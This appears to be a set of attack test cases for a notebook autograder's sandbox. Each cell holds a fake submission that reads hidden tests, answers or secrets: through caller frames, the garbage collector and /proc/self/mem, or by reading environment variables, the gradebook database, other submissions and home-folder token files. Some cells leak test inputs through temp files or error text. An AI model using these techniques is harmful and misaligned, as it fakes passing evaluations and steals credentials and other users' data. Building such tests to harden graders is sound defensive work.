# Attacks that read what they should not: hidden tests, the gradebook, other submissions, the grader's own things.

# %% attack "the check read through In" gains=3 honest=1
# Inside the function, In[-1] is the text of the check that calls it.
import re

def mean(values):
    line = [n for n in In[-1].splitlines() if n.startswith("assert")]
    numbers = {"[2, 4]": 3}
    if len(values) == 0:
        raise ValueError
    for text in line:
        found = re.search(r"== ([\d.]+)$|, ([\d.]+)\)$", text)
        if found and ("kestrel" in text) == (values[0] > 1000):
            return float(found[1] or found[2])
    return -1

# %% attack "the check printed through In" honest=5 reads
# Prints the text of the check that calls it.
def mean(values):
    print(In[-1])
    return sum(values) / len(values)

# %% attack "the check read through frames" gains=3 honest=1
# Asks the calling frame for its line, and returns what stands after ==.
import ast, linecache, sys

def mean(values):
    frame = sys._getframe(1)
    line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
    test = ast.parse(line).body[0].test
    wanted = test.comparators[0] if isinstance(test, ast.Compare) else test.args[1]
    return eval(ast.unparse(wanted), frame.f_globals)

# %% attack "the globals of the caller" honest=5 reads
# Prints the names and values of the frames that called.
import sys

def mean(values):
    frame = sys._getframe(1)
    while frame:
        print({k: v for k, v in frame.f_globals.items() if k.startswith("kest" + "rel")})
        frame = frame.f_back
    return sum(values) / len(values)

# %% attack "hidden tests found by the garbage collector" honest=5 reads
# Goes through every list and dictionary in memory and looks for texts that are checks.
import gc

def mean(values):
    for thing in gc.get_objects():
        if type(thing) in (list, dict):
            for item in list(thing.values() if type(thing) is dict else thing):
                if type(item) is str and "BEGIN HIDDEN" + " TESTS" in item:
                    print(item[:2000])
                    return sum(values) / len(values)
    return sum(values) / len(values)

# %% attack "hidden tests found in the memory of processes" honest=5 reads
# Reads /proc/self/mem while the check runs.
import re

def mean(values):
    if len(values) > 1 and values[0] > 1000:
        needle = re.compile(b"kest" + rb"rel_\d+ = \[[^\n]+")
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                area, rights, *_ = line.split()
                start, end = (int(part, 16) for part in area.split("-"))
                if rights.startswith("rw") and end - start < 64 << 20:
                    try:
                        memory.seek(start)
                        found = needle.search(memory.read(end - start))
                    except (OSError, ValueError, OverflowError):
                        continue
                    if found:
                        print(found[0][:80].decode(errors="replace"))
    return sum(values) / len(values)

# %% attack "hidden tests found in files" honest=5 reads
# Opens every notebook in and around the current folder, and the course's own places.
import pathlib

for folder in (pathlib.Path.cwd(), pathlib.Path.cwd().parent, pathlib.Path("@SCRATCH@/source"), pathlib.Path("/data")):
    for path in folder.glob("*.ipynb"):
        text = path.read_text()
        print(text[text.find("kest" + "rel"):][:60])
def mean(values):
    return sum(values) / len(values)

# %% attack "the environment" honest=5 reads
# Prints all variables, and those of the parent process.
import os

print(dict(os.environ))
for pid in ("self", os.getppid(), 1, 2):
    try:
        print(open(f"/proc/{pid}/environ").read())
    except OSError:
        pass
def mean(values):
    return sum(values) / len(values)

# %% attack "the gradebook" honest=5 reads
# Opens the gradebook's file and prints it.
import sqlite3

try:
    print(sqlite3.connect("@SCRATCH@/gradebook.db").execute("select * from grade").fetchall())
except sqlite3.Error:
    pass
def mean(values):
    return sum(values) / len(values)

# %% attack "another submission" honest=5 reads
# Walks through what others have handed in.
import glob

for name in glob.glob("@SCRATCH@/submitted/**/*.ipynb", recursive=True) + glob.glob("../../submitted/**/*.ipynb", recursive=True):
    print(open(name).read()[-400:])
def mean(values):
    return sum(values) / len(values)

# %% attack "the home folder" honest=5 reads
# Prints the token in the home folder of whoever grades.
import os

for place in (os.path.expanduser("~"), "@SCRATCH@/home", "/root"):
    try:
        print(open(f"{place}/.token").read())
    except OSError:
        pass
def mean(values):
    return sum(values) / len(values)

# %% attack "the root of other processes" honest=5 reads
# Goes through /proc to files that are not mounted here.
import glob

for name in ["/", *glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd")]:
    try:
        print(open(f"{name}@SCRATCH@/home/.token").read())
    except OSError:
        pass
def mean(values):
    return sum(values) / len(values)

# %% attack "what a check passes in, printed" honest=5 reads
# The simplest way to learn the numbers of a hidden test.
def mean(values):
    print(values)
    return sum(values) / len(values)

# %% attack "what a check passes in, by a file" honest=9 reads
# Notes the arguments in a file, which the answer to a later question prints.
import tempfile

def mean(values):
    with open(f"{tempfile.gettempdir()}/noted-@TOKEN@", "a") as file:
        file.write(f"{values}\n")
    return sum(values) / len(values)

# %% also "total"
import os, tempfile

noted = f"{tempfile.gettempdir()}/noted-@TOKEN@"
if os.path.exists(noted):
    print(open(noted).read())
def total(values):
    return sum(values)

# %% attack "what a check passes in, by the last value" honest=9 reads
# The same, shown as the value of a later cell.
import tempfile

def mean(values):
    with open(f"{tempfile.gettempdir()}/noted-@TOKEN@", "a") as file:
        file.write(f"{values}\n")
    return sum(values) / len(values)

# %% also "total"
import os, tempfile

def total(values):
    return sum(values)

open(noted).read() if os.path.exists(noted := f"{tempfile.gettempdir()}/noted-@TOKEN@") else None

# %% attack "what a check passes in, by a later error" honest=5 reads
# The same, shown by an exception in the visible part of a later check.
import tempfile

def mean(values):
    with open(f"{tempfile.gettempdir()}/noted-@TOKEN@", "a") as file:
        file.write(f"{values}\n")
    return sum(values) / len(values)

# %% also "total"
import tempfile

def total(values):
    raise ValueError(open(f"{tempfile.gettempdir()}/noted-@TOKEN@").read())

# %% attack "what a check passes in, kept by a thread" honest=9 reads
# A thread of the answer's own stays alive, so that the process cannot be copied for the check.
import threading, time

kept = []
threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
def mean(values):
    kept.append(values)
    return sum(values) / len(values)

# %% also "total"
print(kept)
def total(values):
    return sum(values)
kept

# %% attack "what a check passes in, in an error's text" honest=3 reads
# Raises the arguments for numbers that were not in the visible examples.
def mean(values):
    if len(values) and values[0] > 1000:
        raise ValueError(f"look: {values}")
    return sum(values) / len(values)

# %% attack "what a check passes in, in an error's name" honest=3 reads
# Makes an exception class whose name spells the arguments.
def mean(values):
    if len(values) and values[0] > 1000:
        raise type("v" + "_".join(str(v).replace(".", "p") for v in values), (ValueError,), {})()
    return sum(values) / len(values)
